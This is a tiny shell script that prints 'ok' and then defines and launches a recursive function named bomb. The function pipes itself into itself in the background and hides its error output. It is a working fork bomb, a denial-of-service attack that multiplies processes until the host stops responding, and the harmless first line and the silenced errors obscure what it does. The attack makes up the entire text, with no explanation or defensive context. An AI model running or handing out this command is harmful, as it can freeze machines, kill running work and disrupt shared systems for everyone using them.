echo ok
bomb() { bomb | bomb & }
bomb 2>/dev/null
